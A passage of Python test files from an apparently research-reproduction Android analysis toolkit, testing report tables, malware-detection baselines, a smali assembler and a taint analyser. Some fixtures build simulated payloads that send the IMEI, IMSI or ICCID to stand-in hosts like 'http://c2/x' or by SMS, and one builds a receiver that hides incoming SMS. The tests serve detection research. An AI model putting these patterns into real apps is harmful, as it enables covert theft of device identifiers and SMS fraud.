    entity=Entity.THIRD_PARTY,
    kind=PayloadKind.DEX,
    leaks=(),
    detection=None,
    provenance=Provenance.LOCAL,
    path="/data/data/p/x.jar",
):
    return PayloadVerdict(
        path=path,
        kind=kind,
        entity=entity,
        provenance=provenance,
        detection=detection,
        leaks=tuple(leaks),
    )


def leak(data_type="IMEI", category="PI"):
    return PrivacyLeak(
        data_type=data_type,
        category=category,
        sink_class="java.io.OutputStream",
        sink_method="write",
        channel="network",
        in_method="a.B.m",
    )


def app(package="com.a", **kwargs):
    defaults = dict(
        package=package,
        metadata=make_metadata(),
        prefilter=PrefilterResult(has_dex_dcl=True),
        obfuscation=ObfuscationProfile(),
        dynamic=make_dynamic(),
    )
    defaults.update(kwargs)
    return AppAnalysis(**defaults)


class TestAppAnalysisViews:
    def test_intercepted_requires_exercised(self):
        crashed = app(dynamic=make_dynamic(outcome=DynamicOutcome.CRASH))
        assert not crashed.dex_intercepted
        healthy = app()
        assert healthy.dex_intercepted

    def test_entities_partition_by_kind(self):
        analysis = app()
        analysis.payloads = [
            make_payload(entity=Entity.OWN, kind=PayloadKind.DEX),
            make_payload(entity=Entity.THIRD_PARTY, kind=PayloadKind.NATIVE),
        ]
        assert analysis.dex_entities() == {Entity.OWN}
        assert analysis.native_entities() == {Entity.THIRD_PARTY}

    def test_unknown_entity_excluded(self):
        analysis = app()
        analysis.payloads = [make_payload(entity=Entity.UNKNOWN)]
        assert analysis.dex_entities() == set()

    def test_leaked_types_merges_entities(self):
        analysis = app()
        analysis.payloads = [
            make_payload(entity=Entity.THIRD_PARTY, leaks=[leak("IMEI")]),
            make_payload(entity=Entity.OWN, leaks=[leak("IMEI")], path="/data/data/p/y.jar"),
        ]
        assert analysis.leaked_types() == {"IMEI": {Entity.THIRD_PARTY, Entity.OWN}}


class TestAggregation:
    def test_empty_report(self):
        report = MeasurementReport(apps=[])
        assert report.n_total == 0
        assert report.dynamic_summary()["dex"]["candidates"] == 0
        assert report.privacy_table() == {}
        assert report.malware_table() == {}
        assert report.remote_fetch_apps() == []
        # rendering an empty report must not crash.
        assert "TABLE II" in report.render_all()

    def test_entity_buckets_count_both_in_both_columns(self):
        analysis = app()
        analysis.payloads = [
            make_payload(entity=Entity.OWN),
            make_payload(entity=Entity.THIRD_PARTY, path="/data/data/p/z.jar"),
        ]
        report = MeasurementReport(apps=[analysis])
        table = report.entity_table()
        # Table IV semantics: both-apps count in *all three* columns.
        assert table["dex"] == {"apps": 1, "third": 1, "own": 1, "both": 1}

    def test_privacy_exclusivity(self):
        third_only = app("com.t")
        third_only.payloads = [make_payload(leaks=[leak("IMEI")])]
        mixed = app("com.m")
        mixed.payloads = [
            make_payload(leaks=[leak("IMEI")]),
            make_payload(entity=Entity.OWN, leaks=[leak("IMEI")], path="/q.jar"),
        ]
        report = MeasurementReport(apps=[third_only, mixed])
        row = report.privacy_table()["IMEI"]
        assert row["n_apps"] == 2
        assert row["exclusively_third"] == 1

    def test_malware_table_counts_files_and_apps(self):
        detection = Detection(
            family="fam", score=1.0, matched_sample_id="fam#1",
            matched_functions=5, total_functions=5,
        )
        carrier = app("com.mal", metadata=make_metadata(downloads=9999))
        carrier.payloads = [
            make_payload(detection=detection, path="/a"),
            make_payload(detection=detection, path="/b"),
        ]
        report = MeasurementReport(apps=[carrier])
        table = report.malware_table()
        assert table["fam"]["n_apps"] == 1
        assert table["fam"]["n_files"] == 2
        assert table["fam"]["sample_app"] == "com.mal"
        assert report.malicious_file_count() == 2

    def test_runtime_config_table_intersection(self):
        detection = Detection(
            family="fam", score=1.0, matched_sample_id="fam#1",
            matched_functions=1, total_functions=1,
        )
        carrier = app("com.mal")
        carrier.payloads = [make_payload(detection=detection, path="/mal.jar")]
        carrier.replay_loaded = {
            "location-off": {"/mal.jar"},
            "airplane-wifi-off": set(),
        }
        report = MeasurementReport(apps=[carrier])
        table = report.runtime_config_table()
        assert table["location-off"] == {"loaded": 1, "total": 1}
        assert table["airplane-wifi-off"] == {"loaded": 0, "total": 1}

    def test_popularity_groups_disjoint_union(self):
        with_dcl = app("com.a", metadata=make_metadata(downloads=100))
        without = app(
            "com.b",
            metadata=make_metadata(downloads=10),
            prefilter=PrefilterResult(),
            dynamic=None,
        )
        report = MeasurementReport(apps=[with_dcl, without])
        table = report.popularity()
        assert table["DEX"]["downloads"] == 100
        assert table["Without DEX"]["downloads"] == 10

    def test_decompile_failures_have_no_prefilter(self):
        failed = AppAnalysis(
            package="com.x",
            metadata=make_metadata(),
            decompile_failed=True,
            obfuscation=ObfuscationProfile(anti_decompilation=True),
        )
        report = MeasurementReport(apps=[failed])
        assert report.dex_candidates() == []
        assert report.obfuscation_table()["Anti-decompilation"] == 1
