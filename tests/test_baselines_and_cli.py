"""Tests for the baseline systems (RiskRanker/Crowdroid) and the CLI."""

import pytest

from repro.baselines.crowdroid import CrowdroidMonitor, SyscallVector
from repro.baselines.riskranker import RiskRankerStatic
from repro.cli import build_parser, main
from repro.corpus.generator import CorpusGenerator
from repro.dynamic.engine import AppExecutionEngine, EngineOptions
from repro.runtime.device import Device
from repro.static_analysis.malware.droidnative import DroidNative
from repro.static_analysis.malware.families import (
    SWISS_CODE_MONKEYS,
    swiss_code_monkeys_dex,
    training_corpus,
)

from tests.helpers import build_manifest, downloads_and_loads_app
from repro.android.apk import Apk
from repro.android.dex import DexFile


@pytest.fixture(scope="module")
def detector():
    d = DroidNative()
    d.train_corpus(training_corpus(samples_per_family=2, seed=0))
    return d


class TestRiskRankerBaseline:
    def test_flags_dcl_presence(self, detector):
        baseline = RiskRankerStatic(detector)
        report = baseline.analyze(downloads_and_loads_app())
        assert report.flags_dcl

    def test_finds_locally_packaged_malware(self, detector):
        # Malware shipped as a plain asset IS within the static baseline's reach.
        payload = swiss_code_monkeys_dex(seed=5)
        apk = downloads_and_loads_app()
        apk.add_asset("assets/plugin.bin", payload.to_bytes())
        report = RiskRankerStatic(detector).analyze(apk)
        assert report.detected_malware
        assert report.detected_malware[0][1].family == SWISS_CODE_MONKEYS

    def test_blind_to_remote_fetch(self, detector):
        # The same malware fetched at runtime is invisible statically --
        # the gap DyDroid's interception closes (paper Section VI).
        apk = downloads_and_loads_app()  # payload lives on the network only
        report = RiskRankerStatic(detector).analyze(apk)
        assert report.flags_dcl
        assert not report.detected_malware

    def test_blind_to_encrypted_payloads(self, detector):
        apk = downloads_and_loads_app()
        apk.add_asset("assets/enc.bin", swiss_code_monkeys_dex(1).encrypt(b"k"))
        report = RiskRankerStatic(detector).analyze(apk)
        assert not report.detected_malware
        assert "assets/enc.bin" in report.opaque_payloads

    def test_decompile_failure(self, detector):
        apk = downloads_and_loads_app()
        apk.enable_anti_decompilation()
        report = RiskRankerStatic(detector).analyze(apk)
        assert report.decompile_failed


class TestCrowdroidBaseline:
    def _vector(self, **overrides):
        base = dict(
            package="com.x", reads=10, writes=5, deletes=1, renames=0,
            fetches=2, sms=0, uploads=0,
        )
        base.update(overrides)
        return SyscallVector(**base)

    def test_fit_and_detect_anomaly(self):
        monitor = CrowdroidMonitor(threshold_sigmas=2.0)
        benign = [self._vector(package="b{}".format(i), reads=10 + i % 3) for i in range(20)]
        monitor.fit(benign)
        hostile = self._vector(package="mal", sms=40, uploads=30, fetches=50)
        assert monitor.is_anomalous(hostile)
        assert not monitor.is_anomalous(self._vector(package="ok"))

    def test_unfitted_raises(self):
        with pytest.raises(RuntimeError):
            CrowdroidMonitor().distance(self._vector())

    def test_fit_empty_raises(self):
        with pytest.raises(ValueError):
            CrowdroidMonitor().fit([])

    def test_structural_limits_stated(self):
        assert not CrowdroidMonitor.attributes_to_loaded_code()
        assert not CrowdroidMonitor.produces_payload_sample()

    def test_vector_from_device(self):
        device = Device()
        device.vfs.write("/tmp/a", b"x")
        device.vfs.read("/tmp/a")
        vector = SyscallVector.from_run("com.x", device)
        assert vector.writes >= 1 and vector.reads >= 1

    def test_cannot_name_the_loaded_code(self):
        """The killer difference: Crowdroid sees *that* something misbehaved,
        DyDroid holds the actual binary."""
        generator = CorpusGenerator(seed=31)
        blueprints = generator.sample_blueprints(400)
        mal = next(b for b in blueprints if b.malware_family == SWISS_CODE_MONKEYS)
        record = generator.build_record(mal)
        report = AppExecutionEngine(
            EngineOptions(remote_resources=record.remote_resources)
        ).run(record.apk)
        vector = SyscallVector.from_report(report)
        # the vector carries only counts...
        assert not hasattr(vector, "payload")
        # ...while DyDroid intercepted the actual malicious DEX.
        assert any(p.as_dex() is not None for p in report.intercepted)


class TestCli:
    def test_parser_commands(self):
        parser = build_parser()
        args = parser.parse_args(["measure", "--apps", "50", "--table", "6"])
        assert args.command == "measure" and args.table == "6"

    def test_corpus_command(self, capsys):
        assert main(["corpus", "--apps", "300", "--seed", "5"]) == 0
        out = capsys.readouterr().out
        assert "DEX DCL code" in out and "malware carriers" in out

    def test_measure_single_table(self, capsys):
        assert main(["measure", "--apps", "120", "--seed", "5", "--table", "6",
                     "--train", "2", "--no-replays"]) == 0
        out = capsys.readouterr().out
        assert "TABLE VI" in out

    def test_analyze_by_role(self, capsys):
        assert main(["analyze", "--apps", "400", "--seed", "5", "--role", "packed"]) == 0
        out = capsys.readouterr().out
        assert "DEX encryption" in out

    def test_analyze_index_out_of_range(self):
        with pytest.raises(SystemExit):
            main(["analyze", "--apps", "50", "--seed", "5", "--index", "999"])

    def test_families_command(self, capsys):
        assert main(["families"]) == 0
        out = capsys.readouterr().out
        assert "chathook-ptrace  (Table VII)" in out
        assert len(out.strip().splitlines()) == 19

    def test_measure_fig3_table(self, capsys):
        assert main(["measure", "--apps", "400", "--seed", "11", "--table", "fig3",
                     "--train", "2", "--no-replays"]) == 0
        assert "FIGURE 3" in capsys.readouterr().out

    def test_measure_table8_requires_replays(self, capsys):
        # with replays on, Table VIII has content for the planted malware.
        assert main(["measure", "--apps", "400", "--seed", "11", "--table", "8",
                     "--train", "2"]) == 0
        out = capsys.readouterr().out
        assert "TABLE VIII" in out and "system-time-before-release" in out
