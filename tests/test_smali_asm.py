"""Tests for the smali assembler/disassembler round trip."""

import pytest
from hypothesis import given, settings

from repro.android import bytecode as bc
from repro.android.builders import MethodBuilder, class_builder
from repro.android.bytecode import Cmp, FieldRef, Instruction, MethodRef, Op
from repro.android.dex import DexClass, DexField, DexFile
from repro.static_analysis.smali_asm import (
    SmaliSyntaxError,
    assemble,
    assemble_instruction,
    disassemble,
    disassemble_instruction,
)
from repro.static_analysis.malware.families import swiss_code_monkeys_dex

from tests.helpers import downloads_and_loads_app, simple_payload_dex
from tests.test_properties import dex_files


class TestInstructionRoundTrip:
    CASES = [
        bc.const(0, 42),
        bc.const(1, "hello, world"),
        bc.const(2, 'tricky "quoted, string"'),
        bc.const(3, None),
        bc.move(4, 5),
        bc.new_instance(6, "com.example.Widget"),
        Instruction(Op.NEW_ARRAY, (7, 8)),
        bc.invoke(MethodRef("com.a.B", "doIt", 2), 0, 1),
        bc.invoke(MethodRef("com.a.B", "<init>", 0)),
        bc.move_result(9),
        bc.iget(0, 1, FieldRef("com.a.B", "field")),
        bc.iput(0, 1, FieldRef("com.a.B", "field")),
        bc.sget(0, FieldRef("com.a.B", "STATIC")),
        bc.sput(0, FieldRef("com.a.B", "STATIC")),
        Instruction(Op.AGET, (0, 1, 2)),
        Instruction(Op.APUT, (0, 1, 2)),
        bc.if_cmp(Cmp.EQ, 0, 1, "target"),
        bc.if_cmp(Cmp.EQZ, 0, None, "target"),
        bc.goto("loop"),
        bc.label("loop"),
        bc.ret(0),
        bc.ret_void(),
        bc.throw(0),
        bc.binop("add", 0, 1, 2),
        Instruction(Op.NOP),
    ]

    @pytest.mark.parametrize("insn", CASES, ids=lambda i: i.op.value)
    def test_round_trip(self, insn):
        text = disassemble_instruction(insn)
        assert assemble_instruction(text) == insn

    def test_negative_int_literal(self):
        insn = bc.const(0, -17)
        assert assemble_instruction(disassemble_instruction(insn)) == insn


class TestFileRoundTrip:
    def test_payload_round_trip(self):
        dex = simple_payload_dex()
        assert assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

    def test_realistic_app_round_trip(self):
        dex = downloads_and_loads_app().dex_files()[0]
        assert assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

    def test_malware_round_trip(self):
        dex = swiss_code_monkeys_dex(3)
        assert assemble(disassemble(dex)).to_bytes() == dex.to_bytes()

    def test_fields_round_trip(self):
        cls = DexClass(name="com.f.Holder")
        cls.fields = [
            DexField(name="cache", type_name="java.lang.String"),
            DexField(name="COUNT", type_name="java.lang.Integer", is_static=True),
        ]
        dex = DexFile(classes=[cls])
        restored = assemble(disassemble(dex))
        assert restored.classes[0].fields == cls.fields

    def test_static_private_method_flags(self):
        cls = class_builder("com.m.X")
        builder = MethodBuilder("helper", "com.m.X", arity=2, is_static=True, is_public=False)
        builder.ret_void()
        cls.add_method(builder.build())
        restored = assemble(disassemble(DexFile(classes=[cls])))
        method = restored.classes[0].methods[0]
        assert method.is_static and not method.is_public and method.arity == 2

    def test_source_name_preserved(self):
        dex = simple_payload_dex()
        dex.source_name = "plugin_v2.jar"
        assert assemble(disassemble(dex)).source_name == "plugin_v2.jar"


class TestErrors:
    def test_bad_mnemonic(self):
        with pytest.raises(ValueError):
            assemble_instruction("frobnicate v0")

    def test_bad_register(self):
        with pytest.raises(ValueError):
            assemble_instruction("move x0, v1")

    def test_instruction_outside_method(self):
        with pytest.raises(SmaliSyntaxError) as excinfo:
            assemble(".class public La/B;\n.super La/O;\nconst v0, 1\n")
        assert excinfo.value.line_number == 3

    def test_super_outside_class(self):
        with pytest.raises(SmaliSyntaxError):
            assemble(".super La/O;\n")

    def test_comments_ignored(self):
        dex = assemble("# a comment\n.class public La/B;\n.super Ljava/lang/Object;\n")
        assert dex.classes[0].name == "a.B"


@given(dex_files())
@settings(max_examples=40, deadline=None)
def test_property_assemble_disassemble_fixpoint(dex):
    """assemble(disassemble(x)) is byte-identical for arbitrary programs."""
    text = disassemble(dex)
    restored = assemble(text)
    assert restored.to_bytes() == dex.to_bytes()
    assert disassemble(restored) == text
