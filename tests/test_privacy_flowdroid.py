"""Tests for the FlowDroid-style privacy taint analysis."""

import pytest

from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.corpus.behaviors import privacy_payload_dex
from repro.static_analysis.privacy.flowdroid import FlowDroid, analyze_dex
from repro.static_analysis.privacy.sources import DATA_TYPES, api_source_for, uri_source_for

import random


def _single_method_dex(body, name="run", class_name="t.Payload", arity=1):
    cls = class_builder(class_name)
    b = MethodBuilder(name, class_name, arity=arity)
    body(b)
    b.ret_void()
    cls.add_method(b.build())
    return DexFile(classes=[cls])


def _leak_types(dex):
    return {leak.data_type for leak in analyze_dex(dex)}


class TestDirectFlows:
    def test_imei_to_network(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            url = b.new_instance_of("java.net.URL", b.new_string("http://c2/x"))
            conn = b.call_virtual("java.net.URL", "openConnection", url)
            out = b.call_virtual("java.net.URLConnection", "getOutputStream", conn)
            b.call_void("java.io.OutputStream", "write", out, imei)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_source_without_sink_is_clean(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)

        assert _leak_types(_single_method_dex(body)) == set()

    def test_sink_without_source_is_clean(self):
        def body(b):
            b.call_void("android.util.Log", "d", b.new_string("t"), b.new_string("benign"))

        assert _leak_types(_single_method_dex(body)) == set()

    def test_location_to_log(self):
        def body(b):
            lm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("location")
            )
            loc = b.call_virtual(
                "android.location.LocationManager", "getLastKnownLocation", lm, b.new_string("gps")
            )
            b.call_void("android.util.Log", "d", b.new_string("t"), loc)

        assert _leak_types(_single_method_dex(body)) == {"Location"}

    def test_sms_sink(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            sms = b.call_static("android.telephony.SmsManager", "getDefault")
            null = b.new_null()
            b.call_void(
                "android.telephony.SmsManager", "sendTextMessage",
                sms, b.new_string("+1"), null, imsi, null, null,
            )

        leaks = analyze_dex(_single_method_dex(body))
        assert {(l.data_type, l.channel) for l in leaks} == {("IMSI", "sms")}


class TestTaintPropagation:
    def test_through_string_concat(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            blob = b.call_static("java.lang.String", "concat", b.new_string("id="), imei)
            b.call_void("android.util.Log", "d", b.new_string("t"), blob)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_through_fields(self):
        class_name = "t.Holder"
        cls = class_builder(class_name)
        store = MethodBuilder("store", class_name, arity=1)
        tm = store.call_virtual(
            "android.content.Context", "getSystemService", store.arg(0), store.new_string("phone")
        )
        imei = store.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
        store.put_static(imei, class_name, "cachedId")
        store.ret_void()
        cls.add_method(store.build())
        emit = MethodBuilder("emit", class_name, arity=1)
        value = emit.get_static(class_name, "cachedId")
        emit.call_void("android.util.Log", "d", emit.new_string("t"), value)
        emit.ret_void()
        cls.add_method(emit.build())
        assert _leak_types(DexFile(classes=[cls])) == {"IMEI"}

    def test_interprocedural_return_flow(self):
        class_name = "t.Inter"
        cls = class_builder(class_name)
        getter = MethodBuilder("readId", class_name, arity=1)
        tm = getter.call_virtual(
            "android.content.Context", "getSystemService", getter.arg(0), getter.new_string("phone")
        )
        imei = getter.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
        getter.ret(imei)
        cls.add_method(getter.build())
        user = MethodBuilder("use", class_name, arity=1)
        value = user.call_virtual(class_name, "readId", user.arg(0))
        user.call_void("android.util.Log", "d", user.new_string("t"), value)
        user.ret_void()
        cls.add_method(user.build())
        assert _leak_types(DexFile(classes=[cls])) == {"IMEI"}

    def test_interprocedural_param_flow_to_sink(self):
        class_name = "t.Inter2"
        cls = class_builder(class_name)
        sink = MethodBuilder("upload", class_name, arity=2, is_static=True)
        b = sink
        url = b.new_instance_of("java.net.URL", b.new_string("http://x/up"))
        conn = b.call_virtual("java.net.URL", "openConnection", url)
        b.call_void("java.net.URLConnection", "setRequestProperty", conn, b.new_string("k"), b.arg(1))
        b.ret_void()
        cls.add_method(sink.build())
        caller = MethodBuilder("go", class_name, arity=1)
        tm = caller.call_virtual(
            "android.content.Context", "getSystemService", caller.arg(0), caller.new_string("phone")
        )
        iccid = caller.call_virtual("android.telephony.TelephonyManager", "getSimSerialNumber", tm)
        caller.call_void(class_name, "upload", caller.new_null(), iccid)
        caller.ret_void()
        cls.add_method(caller.build())
        assert _leak_types(DexFile(classes=[cls])) == {"ICCID"}

    def test_every_method_is_an_entry_point(self):
        # Leaks in a method no other method calls are still found -- the
        # paper's FlowDroid modification for loaded code.
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            number = b.call_virtual("android.telephony.TelephonyManager", "getLine1Number", tm)
            b.call_void("android.util.Log", "d", b.new_string("t"), number)

        dex = _single_method_dex(body, name="orphanedHandler")
        assert _leak_types(dex) == {"Phone number"}


class TestContentProviderSources:
    def test_contacts_query(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            uri = b.get_static("android.provider.ContactsContract$Contacts", "CONTENT_URI")
            cursor = b.call_virtual("android.content.ContentResolver", "query", resolver, uri)
            b.call_virtual("android.database.Cursor", "moveToNext", cursor)
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == {"Contact"}

    def test_uri_string_literal_also_resolves(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            cursor = b.call_virtual(
                "android.content.ContentResolver", "query", resolver, b.new_string("content://sms")
            )
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == {"SMS"}

    def test_insensitive_uri_is_clean(self):
        def body(b):
            resolver = b.call_virtual("android.content.Context", "getContentResolver", b.arg(0))
            cursor = b.call_virtual(
                "android.content.ContentResolver", "query", resolver, b.new_string("content://weather")
            )
            row = b.call_virtual("android.database.Cursor", "getString", cursor, b.new_int(0))
            b.call_void("android.util.Log", "d", b.new_string("t"), row)

        assert _leak_types(_single_method_dex(body)) == set()


class TestPayloadTemplates:
    def test_payload_generator_covers_all_18_types(self):
        rng = random.Random(0)
        for data_type in DATA_TYPES:
            dex = privacy_payload_dex(rng, "com.vendor.x", [data_type])
            assert data_type in _leak_types(dex), data_type

    def test_multi_type_payload(self):
        rng = random.Random(1)
        dex = privacy_payload_dex(rng, "com.vendor.y", ["IMEI", "Calendar", "Settings"])
        assert _leak_types(dex) == {"IMEI", "Calendar", "Settings"}

    def test_empty_payload_clean(self):
        rng = random.Random(2)
        dex = privacy_payload_dex(rng, "com.vendor.z", [])
        assert _leak_types(dex) == set()

    def test_unknown_type_rejected(self):
        with pytest.raises(KeyError):
            privacy_payload_dex(random.Random(0), "com.v", ["Fingerprint"])


class TestCatalogues:
    def test_api_source_lookup(self):
        source = api_source_for("android.telephony.TelephonyManager", "getDeviceId")
        assert source.data_type == "IMEI" and source.category == "PI"
        assert api_source_for("android.telephony.TelephonyManager", "toString") is None

    def test_uri_source_lookup(self):
        assert uri_source_for("content://calendar").data_type == "Calendar"
        assert uri_source_for(None) is None
        assert uri_source_for("content://nope") is None

    def test_leak_rendering(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            b.call_void("android.util.Log", "d", b.new_string("t"), imei)

        leaks = analyze_dex(_single_method_dex(body))
        assert "IMEI -> android.util.Log.d [log]" in str(leaks[0])

    def test_analysis_deterministic_ordering(self):
        rng = random.Random(3)
        dex = privacy_payload_dex(rng, "com.vendor.multi", ["IMEI", "IMSI", "Location"])
        assert analyze_dex(dex) == analyze_dex(dex)


class TestEdgeCases:
    def test_array_propagation(self):
        # stream-read into a buffer taints the buffer (ARG_TO_ARG rule),
        # and aget out of it keeps the taint.
        def body(b):
            from repro.android import bytecode as bc

            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            size = b.new_int(16)
            arr = b.reg()
            b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (arr, size)))
            idx = b.new_int(0)
            b.emit(bc.Instruction(bc.Op.APUT, (imei, arr, idx)))
            out = b.reg()
            b.emit(bc.Instruction(bc.Op.AGET, (out, arr, idx)))
            b.call_void("android.util.Log", "d", b.new_string("t"), out)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_sink_position_sensitivity(self):
        # Log.d leaks at positions 0/1; SmsManager.sendTextMessage only at
        # the destination/body positions -- a tainted *service center* (arg
        # position 2) is not a leak.
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            sms = b.call_static("android.telephony.SmsManager", "getDefault")
            null = b.new_null()
            # logical args: [sms, dest, serviceCenter, text, x, y]
            b.call_void(
                "android.telephony.SmsManager", "sendTextMessage",
                sms, b.new_string("+1"), imsi, b.new_string("benign"), null, null,
            )

        assert _leak_types(_single_method_dex(body)) == set()

    def test_binop_merges_taint(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            mixed = b.binop("xor", imei, b.new_int(7))
            b.call_void("android.util.Log", "d", b.new_string("t"), mixed)

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}

    def test_mutual_recursion_terminates(self):
        # a <-> b recursive summaries must converge within the round cap.
        cls = class_builder("t.Rec")
        a = MethodBuilder("a", "t.Rec", arity=1, is_static=True)
        va = a.call_static("t.Rec", "b", a.arg(0))
        a.ret(va)
        cls.add_method(a.build())
        b = MethodBuilder("b", "t.Rec", arity=1, is_static=True)
        vb = b.call_static("t.Rec", "a", b.arg(0))
        b.ret(vb)
        cls.add_method(b.build())
        assert analyze_dex(DexFile(classes=[cls])) == []

    def test_two_sources_one_sink(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            imsi = b.call_virtual("android.telephony.TelephonyManager", "getSubscriberId", tm)
            both = b.call_static("java.lang.String", "concat", imei, imsi)
            b.call_void("android.util.Log", "d", b.new_string("t"), both)

        assert _leak_types(_single_method_dex(body)) == {"IMEI", "IMSI"}

    def test_try_catch_does_not_kill_taint(self):
        def body(b):
            tm = b.call_virtual(
                "android.content.Context", "getSystemService", b.arg(0), b.new_string("phone")
            )
            imei = b.call_virtual("android.telephony.TelephonyManager", "getDeviceId", tm)
            b.try_start("h", "java.io.IOException")
            b.call_void("android.util.Log", "d", b.new_string("t"), imei)
            b.try_end()
            b.label("h")

        assert _leak_types(_single_method_dex(body)) == {"IMEI"}
