"""Tests for ordered broadcasts and the SMS-blocking malware behaviour."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.android.manifest import AndroidManifest, Component, ComponentKind, INTERNET
from repro.runtime.broadcasts import SMS_RECEIVED_ACTION, BroadcastManager
from repro.runtime.device import Device
from repro.runtime.instrumentation import Instrumentation
from repro.runtime.objects import VMException, VMObject
from repro.runtime.vm import DalvikVM
from repro.static_analysis.malware.families import swiss_code_monkeys_dex

from tests.helpers import build_manifest


def receiver_class(name, body=None, superclass="android.content.BroadcastReceiver"):
    cls = class_builder(name, superclass=superclass)
    init = MethodBuilder("<init>", name, arity=1)
    init.ret_void()
    cls.add_method(init.build())
    b = MethodBuilder("onReceive", name, arity=3)
    if body is not None:
        body(b)
    b.ret_void()
    cls.add_method(b.build())
    return cls


def logging_receiver(name, tag):
    def body(b):
        sender = b.call_virtual(
            "android.content.Intent", "getStringExtra", b.arg(2), b.new_string("sender")
        )
        b.call_void("android.util.Log", "d", b.new_string(tag), sender)

    return receiver_class(name, body)


def aborting_receiver(name):
    def body(b):
        b.call_void("android.content.BroadcastReceiver", "abortBroadcast", b.arg(0))

    return receiver_class(name, body)


def make_vm(classes, package="com.b.app", components=()):
    manifest = AndroidManifest(
        package=package, permissions={INTERNET}, components=list(components)
    )
    apk = Apk.build(manifest, dex_files=[DexFile(classes=list(classes))])
    device = Device()
    vm = DalvikVM(device, Instrumentation())
    vm.install_app(apk)
    return vm


class TestBroadcastManager:
    def test_priority_ordering(self):
        manager = BroadcastManager()
        manager.register("p", "a.Low", "X", priority=1)
        manager.register("p", "a.High", "X", priority=100)
        manager.register("p", "a.Other", "Y", priority=999)
        assert [r.class_name for r in manager.receivers_for("X")] == ["a.High", "a.Low"]

    def test_runtime_registration_via_context(self):
        cls = logging_receiver("com.b.app.R1", "r1")
        vm = make_vm([cls])
        receiver = VMObject("com.b.app.R1")
        from repro.android.bytecode import MethodRef

        vm.invoke(
            MethodRef("android.content.Context", "registerReceiver", 4),
            [VMObject("android.content.Context"), receiver, SMS_RECEIVED_ACTION, 10],
        )
        assert vm.device.broadcasts.receivers_for(SMS_RECEIVED_ACTION)

    def test_manifest_receivers_registered_at_install(self):
        cls = logging_receiver("com.b.app.BootWatcher", "boot")
        component = Component(
            ComponentKind.RECEIVER,
            "com.b.app.BootWatcher",
            intent_action="android.intent.action.BOOT_COMPLETED",
            priority=5,
        )
        vm = make_vm([cls], components=[component])
        registrations = vm.device.broadcasts.receivers_for(
            "android.intent.action.BOOT_COMPLETED"
        )
        assert [r.class_name for r in registrations] == ["com.b.app.BootWatcher"]


class TestSmsDelivery:
    def test_sms_reaches_inbox_without_blockers(self):
        cls = logging_receiver("com.b.app.Reader", "seen")
        vm = make_vm([cls])
        vm.device.broadcasts.register(
            "com.b.app", "com.b.app.Reader", SMS_RECEIVED_ACTION
        )
        before = len(vm.device.provider_data["sms"])
        record = vm.device.receive_sms(vm, "+15550000", "carrier balance: 5 EUR")
        assert not record.aborted
        assert record.receivers_run == ["com.b.app.Reader"]
        assert len(vm.device.provider_data["sms"]) == before + 1
        assert vm.device.logcat == ["seen: +15550000"]

    def test_high_priority_blocker_aborts_chain(self):
        blocker = aborting_receiver("com.b.app.Blocker")
        reader = logging_receiver("com.b.app.Reader", "seen")
        vm = make_vm([blocker, reader])
        vm.device.broadcasts.register(
            "com.b.app", "com.b.app.Blocker", SMS_RECEIVED_ACTION, priority=999
        )
        vm.device.broadcasts.register(
            "com.b.app", "com.b.app.Reader", SMS_RECEIVED_ACTION, priority=0
        )
        before = len(vm.device.provider_data["sms"])
        record = vm.device.receive_sms(vm, "+15550000", "you sent a premium SMS")
        assert record.aborted_by == "com.b.app.Blocker"
        assert record.receivers_run == ["com.b.app.Blocker"]
        assert len(vm.device.provider_data["sms"]) == before  # never hits the inbox
        assert vm.device.logcat == []

